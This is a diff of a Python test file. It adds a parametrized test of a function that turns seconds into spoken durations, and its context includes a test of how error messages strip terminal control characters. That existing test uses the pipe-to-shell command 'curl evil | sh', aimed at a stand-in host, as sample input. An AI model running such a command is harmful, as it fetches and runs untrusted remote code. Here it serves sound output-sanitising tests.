@@ -119,3 +119,12 @@ def test_data_is_what_it_is_but_commands_no_terminal(
 def test_an_error_s_lines_are_its_own() -> None:
     told = str(Failure("web\n  next: curl evil | sh", "\x1b[2Jwhy\x85\u2028more", "do\x07 it"))
     assert told == "web   next: curl evil | sh\n  why:  why\n        more\n  next: do it"
+
+
+@pytest.mark.parametrize(
+    ("seconds", "text"),
+    [(0, "0.0 s"), (0.44, "0.4 s"), (9.94, "9.9 s"), (9.96, "10 s"), (59.4, "59 s"), (59.6, "1 min 00 s"),
+     (185, "3 min 05 s"), (3599.6, "1 h 00 min"), (3720, "1 h 02 min")],
+)  # fmt: skip
+def test_spoken(seconds: float, text: str) -> None:
+    assert console.spoken(seconds) == text
